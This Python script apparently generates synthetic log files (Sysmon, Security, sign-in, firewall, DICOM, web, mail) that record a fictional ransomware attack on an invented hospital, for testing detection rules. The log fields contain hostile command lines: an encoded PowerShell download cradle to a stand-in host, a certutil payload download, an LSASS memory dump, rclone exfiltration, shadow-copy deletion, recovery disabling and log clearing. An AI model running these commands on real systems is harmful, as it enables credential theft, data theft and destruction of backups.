#!/usr/bin/env python3
"""Writes the sample incident: one day at Riverside General Hospital, which does not exist.

    python3 rules/samples/generate.py

The same day seen by four witnesses:
    riverside-incident.ndjson     hosts, cloud sign-ins, image archive, record system, interface engine
    riverside-firewall.log        the firewall: RFC 5424 syslog that carries CEF
    riverside-pacs-web.log        the web server in front of the image archive: combined log format
    riverside-message-trace.csv   mail: one row for each recipient

Every name, number and outside address is invented: `.example` domains, RFC 5737 addresses, patient
numbers that begin with 999. The seed is fixed, so the files are the same on every run.
"""
import base64
import csv
import json
import random
from datetime import datetime, timedelta
from pathlib import Path

HERE = Path(__file__).parent
DAY = datetime(2026, 3, 17)
CHANCE = random.Random(999)
DOMAIN = "riverside.example"

# Where things are.
WARD_PC, WARD_IP = "PC-W4-017", "10.20.4.17"
FILES, SQL, BACKUP, PACS, HL7, DC = "RGH-FS01", "RGH-SQL02", "RGH-BKP01", "RGH-PACS01", "RGH-HL7", "RGH-DC01"
CONTROL, LOOT, SPRAYER = "198.51.100.44", "198.51.100.80", "203.0.113.45"
STAFF = ["a.mercer", "j.okafor", "r.singh", "l.bauer", "p.novak", "m.haddad", "n.olsen", "e.reyes",
         "k.tanaka", "t.walsh", "d.costa", "h.ilic", "s.duarte"]
SYSTEM32 = "C:\\Windows\\System32\\"
SHELL = SYSTEM32 + "cmd.exe"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
STAGE = "C:\\Users\\Public\\"

events, firewall, web, trace = [], [], [], []


def clock(text, seconds=0.0):
    """`09:14` on the day, and some seconds more."""
    hour, minute = text.split(":")
    return DAY + timedelta(hours=int(hour), minutes=int(minute), seconds=seconds)


def stamp(when):
    return when.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


# --- How each kind of log looks.

def windows(when, host, channel, provider, event_id, **fields):
    events.append((when, {"@timestamp": stamp(when), "Channel": channel, "Provider_Name": provider,
                          "EventID": event_id, "EventRecordID": 0, "Computer": f"{host}.{DOMAIN}", **fields}))


def sysmon(when, host, event_id, **fields):
    windows(when, host, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", event_id, **fields)


def security(when, host, event_id, **fields):
    windows(when, host, "Security", "Microsoft-Windows-Security-Auditing", event_id, **fields)


def process(when, host, user, image, command, parent=SHELL, folder="C:\\Windows\\system32\\"):
    sysmon(when, host, 1, Image=image, OriginalFileName=image.rsplit("\\", 1)[-1], CommandLine=command,
           CurrentDirectory=folder, User="RIVERSIDE\\" + user, ParentImage=parent, ParentCommandLine=parent)


def logon(when, host, user, address, kind="3", package="NTLM"):
    security(when, host, 4624, TargetUserName=user, TargetDomainName="RIVERSIDE", LogonType=kind,
             IpAddress=address, AuthenticationPackageName=package, LogonProcessName="NtLmSsp ")


def service(when, host, name, path):
    windows(when, host, "System", "Service Control Manager", 7045, ServiceName=name, ImagePath=path,
            ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem")


def sign_in(when, user, address, result, app="Office 365 Exchange Online", protocol="none"):
    managed = address.startswith("192.0.2.")
    events.append((when, {"time": stamp(when), "category": "SignInLogs", "operationName": "Sign-in activity",
                          "resultType": str(result), "callerIpAddress": address, "properties": {
                              "userPrincipalName": f"{user}@{DOMAIN}", "ipAddress": address,
                              "appDisplayName": app, "clientAppUsed": "Browser",
                              "authenticationProtocol": protocol,
                              "authenticationRequirement": "multiFactorAuthentication",
                              "deviceDetail": {"isManaged": managed, "isCompliant": managed}}}))


def mailbox(when, user, address, operation, **parameters):
    events.append((when, {"CreationTime": stamp(when)[:-5], "Operation": operation, "RecordType": 1,
                          "Workload": "Exchange", "UserType": 0, "UserId": f"{user}@{DOMAIN}", "ResultStatus": "True",
                          "ClientIP": address,
                          "Parameters": [{"Name": n, "Value": v} for n, v in parameters.items()]}))


def dicom(when, caller, address, **fields):
    events.append((when, {"@timestamp": stamp(when), "host": f"{PACS}.{DOMAIN}", "CallingAETitle": caller,
                          "CalledAETitle": "RGH_PACS", "RemoteAddress": address, **fields}))


def record(when, user, patient, cycle, workstation, purpose="TREAT"):
    events.append((when, {"@timestamp": stamp(when), "AuditSourceID": "rgh-epr", "EventDateTime": stamp(when),
                          "EventActionCode": "R", "EventOutcomeIndicator": "0", "UserID": user,
                          "NetworkAccessPointID": workstation, "ParticipantObjectTypeCode": "1",
                          "ParticipantObjectID": patient, "ParticipantObjectDataLifeCycle": cycle,
                          "PurposeOfUse": purpose}))


def engine(when, name, address, user_id=3, outcome="SUCCESS"):
    events.append((when, {"@timestamp": stamp(when), "host": f"{HL7}.{DOMAIN}", "level": "INFORMATION", "name": name, "outcome": outcome,
                          "userId": user_id, "ipAddress": address,
                          "serverId": "6c0f5a40-1a2b-4c3d-8e9f-00a1b2c3d4e5"}))


def renamed(when, address, name):
    events.append((when, {"_path": "smb_files", "ts": stamp(when), "id.orig_h": address, "id.resp_h": "10.20.1.20",
                          "action": "SMB::FILE_RENAME", "path": "\\\\rgh-fs01\\wards", "name": name + ".rvx",
                          "prev_name": name}))


def traffic(when, source, target, port, sent, received, action="accept"):
    firewall.append((when, f"<134>1 {stamp(when)} rgh-fw01 edge - - - CEF:0|Example|Edge Firewall|7.2|traffic|"
                           f"connection {'closed' if action == 'accept' else 'refused'}|3|src={source} dst={target} "
                           f"dpt={port} proto=TCP act={action} out={sent} in={received}"))


def page(when, address, method, path, status, size, agent):
    web.append((when, f'{address} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "{method} {path} HTTP/1.1" '
                      f'{status} {size} "-" "{agent}"'))


def mail(when, sender, recipient, subject):
    trace.append((when, [stamp(when), f"{len(trace):08d}-0000-4000-8000-000000000999", sender, recipient, subject,
                         "Delivered", "192.0.2.25" if sender.endswith(DOMAIN) else "198.51.100.7"]))


def patient(number):
    return f"999{4100000 + number * 37:07d}"


# --- A working day: nothing below this line is an attack.

def the_day():
    for index in range(130):
        when = clock("07:30", CHANCE.uniform(0, 7 * 3600))
        who, pc = CHANCE.choice(STAFF), f"PC-W{CHANCE.randint(1, 6)}-0{CHANCE.randint(11, 29)}"
        match index % 10:
            case 0 | 1:
                process(when, pc, who, "C:\\Program Files\\RecordViewer\\viewer.exe", "viewer.exe /ward W4",
                        "C:\\Windows\\explorer.exe")
            case 2:
                process(when, pc, who, SYSTEM32 + "wscript.exe", f"wscript.exe \\\\{DOMAIN}\\netlogon\\drives.vbs",
                        SYSTEM32 + "userinit.exe")
            case 3:
                logon(when, FILES, who, f"10.20.4.{CHANCE.randint(11, 60)}", package="Kerberos")
            case 4 | 5:
                sign_in(when, who, "192.0.2.25", CHANCE.choice([0, 0, 0, 50126]))
            case 6 | 7:
                record(when, who, patient(CHANCE.randint(200, 260)), "6", pc)
            case 8:
                dicom(when, "CT2_MAIN", "10.20.8.61", DIMSECommand="C-STORE-RQ", PatientID=patient(index))
            case 9:
                dicom(when, "REPORT01", "10.20.8.71", DIMSECommand="C-MOVE-RQ", QueryRetrieveLevel="STUDY",
                      PatientID=patient(index), MoveDestination="REPORT01")
        traffic(when, f"10.20.4.{CHANCE.randint(11, 60)}", f"192.0.2.{CHANCE.randint(100, 140)}", 443,
                CHANCE.randint(2_000, 90_000), CHANCE.randint(20_000, 4_000_000))
        if index % 3 == 0:
            page(when, "10.20.8.71", "GET", f"/studies/{study(900 + index)}", 200, 4096, "Mozilla/5.0")
            mail(when, f"{who}@{DOMAIN}", f"{CHANCE.choice(STAFF)}@{DOMAIN}", "Handover")
    backup = clock("07:40")
    process(backup, FILES, "adm.kirk", SYSTEM32 + "vssadmin.exe", "vssadmin list shadows")
    process(clock("08:05"), BACKUP, "svc-backup", SYSTEM32 + "wbadmin.exe", "wbadmin get versions")


def study(number):
    mixed = random.Random(number)
    return "-".join(f"{mixed.getrandbits(32):08x}" for _ in range(5))


# --- The attack, chapter by chapter.

def a_mailbox_is_taken():
    for index, who in enumerate(STAFF):
        sign_in(clock("08:12", index * 35), who, SPRAYER, 50126)
    for index in range(6):
        sign_in(clock("08:26", index * 50), "a.mercer", SPRAYER, 500121)
    sign_in(clock("08:32"), "a.mercer", SPRAYER, 0)
    mailbox(clock("08:36"), "a.mercer", SPRAYER, "New-InboxRule", Name="..",
            SubjectOrBodyContainsWords="helpdesk;phishing;password", DeleteMessage="True")
    for index in range(54):
        mail(clock("08:50", index * 8), f"a.mercer@{DOMAIN}", f"reception{index:02d}@practice.example",
             "Shared document: referral")
    mail(clock("08:57", 20), f"a.mercer@{DOMAIN}", f"j.okafor@{DOMAIN}", "Shared document: referral")


def a_ward_pc_is_taken():
    downloads = "C:\\Users\\j.okafor\\Downloads\\"
    sysmon(clock("09:14"), WARD_PC, 15, Image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
           TargetFilename=downloads + "Referral_0317.zip:Zone.Identifier", User="RIVERSIDE\\j.okafor",
           Contents="[ZoneTransfer]  ZoneId=3  HostUrl=about:internet")
    process(clock("09:15"), WARD_PC, "j.okafor", SYSTEM32 + "wscript.exe",
            "wscript.exe \"C:\\Users\\j.okafor\\AppData\\Local\\Temp\\Temp1_Referral_0317.zip\\Referral.pdf.js\"",
            "C:\\Windows\\explorer.exe")
    program = base64.b64encode(f"IEX (irm http://{CONTROL}/r)".encode("utf-16-le")).decode()
    process(clock("09:15", 8), WARD_PC, "j.okafor", POWERSHELL, f"powershell -nop -w hidden -enc {program}",
            SYSTEM32 + "wscript.exe")
    process(clock("09:16"), WARD_PC, "j.okafor", SYSTEM32 + "certutil.exe",
            f"certutil -urlcache -split -f http://{CONTROL}/u.exe {STAGE}u.exe", POWERSHELL)
    for index in range(12):
        traffic(clock("09:16", index * 600), WARD_IP, CONTROL, 443, 3100, 900)
    sysmon(clock("09:20"), WARD_PC, 17, PipeName="\\msagent_4f", Image=STAGE + "u.exe", User="RIVERSIDE\\j.okafor")


def passwords_are_stolen():
    process(clock("09:31"), WARD_PC, "j.okafor", POWERSHELL,
            "powershell Add-MpPreference -ExclusionPath C:\\Users\\Public")
    windows(clock("09:31", 1), WARD_PC, "Microsoft-Windows-Windows Defender/Operational",
            "Microsoft-Windows-Windows Defender", 5007,
            NewValue="HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public = 0x0")
    process(clock("09:36"), WARD_PC, "j.okafor", SYSTEM32 + "rundll32.exe",
            f"rundll32 comsvcs.dll, MiniDump 728 {STAGE}l.bin full")
    for index, name in enumerate(["pacs", "epr-sql", "mirth", "lims", "print", "backup", "scan"]):
        security(clock("09:44", index * 2), DC, 4769, TargetUserName=f"j.okafor@{DOMAIN}".upper(),
                 ServiceName=f"svc-{name}", TicketEncryptionType="0x17", Status="0x0", IpAddress=f"::ffff:{WARD_IP}")


def the_network_is_crossed():
    for index in range(9):
        logon(clock("10:31", index * 20), f"PC-W4-0{20 + index}", "svc-backup", WARD_IP)
    service(clock("10:40"), FILES, "BTOBTO", "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output")
    process(clock("10:44"), SQL, "svc-backup", SHELL,
            "cmd.exe /Q /c net localgroup 1> \\\\127.0.0.1\\ADMIN$\\__1773.4 2>&1", SYSTEM32 + "wbem\\WmiPrvSE.exe")
    security(clock("10:52"), DC, 4662, SubjectUserName="svc-backup", SubjectDomainName="RIVERSIDE", AccessMask="0x100",
             ObjectServer="DS", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")
    logon(clock("11:04"), PACS, "svc-pacs", "127.0.0.1", "10", "Negotiate")


def images_and_records_are_copied():
    for index, name in enumerate(["FINDSCU", "MOVESCU", "CT1", "WORKSTATION", "VIEWER01", "VIEWER02"]):
        dicom(clock("11:10", index * 9), name, WARD_IP, PDU="A-ASSOCIATE-RJ",
              RejectReason="calling-AE-title-not-recognized")
    for index in range(34):
        dicom(clock("11:13", index * 4), "VIEWER07", WARD_IP, DIMSECommand="C-FIND-RQ", QueryRetrieveLevel="STUDY",
              StudyDate=f"2025{index % 12 + 1:02d}01-2025{index % 12 + 1:02d}28")
    for index in range(22):
        dicom(clock("11:18", index * 11), "VIEWER07", WARD_IP, DIMSECommand="C-MOVE-RQ", QueryRetrieveLevel="STUDY",
              PatientID=patient(index), MoveDestination="VIEWER07")
    for index in range(12):
        page(clock("11:26", index * 20), WARD_IP, "GET", f"/studies/{study(index)}/archive", 200,
             CHANCE.randint(40_000_000, 90_000_000), "python-requests/2.32")
    process(clock("12:02"), FILES, "svc-backup", STAGE + "rclone.exe",
            "rclone.exe copy D:\\Shares remote:rgh --transfers 16 --max-age 2y")
    sysmon(clock("12:02", 2), FILES, 22, QueryName="g.api.mega.co.nz", Image=STAGE + "rclone.exe")
    for index in range(8):
        traffic(clock("12:03", index * 300), "10.20.1.20", LOOT, 443, CHANCE.randint(600, 800) * 1_000_000, 4_000_000)


def the_way_back_is_closed():
    for index, name in enumerate(["VeeamBackupSvc", "VeeamBrokerSvc", "MSSQL$VEEAM"]):
        process(clock("13:16", index * 9), BACKUP, "svc-backup", SYSTEM32 + "sc.exe", f"sc.exe config {name} start= disabled")
    process(clock("13:18"), BACKUP, "svc-backup", SYSTEM32 + "wbadmin.exe", "wbadmin delete catalog -quiet")
    for index in range(5):
        engine(clock("13:20", index * 25), "Stop channels", WARD_IP)
    security(clock("13:24"), DC, 5145, SubjectUserName="svc-backup", IpAddress=WARD_IP, ShareName="\\\\*\\SYSVOL",
             RelativeTargetName=f"{DOMAIN}\\Policies\\{{31B2F340-016D-11D2-945F-00C04FB984F9}}\\Machine\\Preferences\\"
                                "ScheduledTasks\\ScheduledTasks.xml", AccessMask="0x2", AccessList="%%4417")
    for index, name in enumerate(["MSSQL$EPR", "SQLWriter", "Mirth", "W3SVC", "Spooler", "MSDTC", "wuauserv"]):
        process(clock("13:27", index * 5), SQL, "svc-backup", SYSTEM32 + "net.exe", f"net stop {name} /y")
    process(clock("13:29"), FILES, "svc-backup", SYSTEM32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet")
    process(clock("13:29", 3), FILES, "svc-backup", SYSTEM32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled no")
    windows(clock("13:30"), FILES, "Security", "Microsoft-Windows-Eventlog", 1102, SubjectUserName="svc-backup",
            SubjectDomainName="RIVERSIDE")


def everything_is_encrypted():
    for index in range(5):
        service(clock("13:31", index * 20), f"PC-W4-0{20 + index}", "rvxsvc", "%SystemRoot%\\rvx.exe")
    for index in range(45):
        renamed(clock("13:34", index * 0.9), WARD_IP, f"w4\\handover-{index:03d}.docx")
    for index in range(6):
        sysmon(clock("13:34", 4 + index * 3), FILES, 11, Image=STAGE + "rvx.exe", User="RIVERSIDE\\svc-backup",
               TargetFilename=f"D:\\Shares\\Wards\\Ward {index + 1}\\HOW_TO_RECOVER_YOUR_FILES.txt")
    sysmon(clock("13:36"), WARD_PC, 13, EventType="SetValue", Image=STAGE + "rvx.exe", Details="C:\\ProgramData\\rvx.bmp",
           TargetObject="HKU\\S-1-5-21-1111111111-2222222222-3333333333-1105\\Control Panel\\Desktop\\Wallpaper")


def lines(entries):
    return [line for _, line in sorted(entries, key=lambda entry: entry[0])]


def main():
    for chapter in (the_day, a_mailbox_is_taken, a_ward_pc_is_taken, passwords_are_stolen, the_network_is_crossed,
                    images_and_records_are_copied, the_way_back_is_closed, everything_is_encrypted):
        chapter()
    day = lines(events)
    for number, event in enumerate(day):
        if "EventRecordID" in event:
            event["EventRecordID"] = 41000 + number
    write("riverside-incident.ndjson", map(json.dumps, day))
    write("riverside-firewall.log", lines(firewall))
    write("riverside-pacs-web.log", lines(web))
    with open(HERE / "riverside-message-trace.csv", "w", newline="") as out:
        table = csv.writer(out, lineterminator="\n")
        table.writerow(["Received", "MessageTraceId", "SenderAddress", "RecipientAddress", "Subject", "Status", "FromIP"])
        table.writerows(lines(trace))


def write(name, text):
    (HERE / name).write_text("".join(line + "\n" for line in text))


if __name__ == "__main__":
    main()
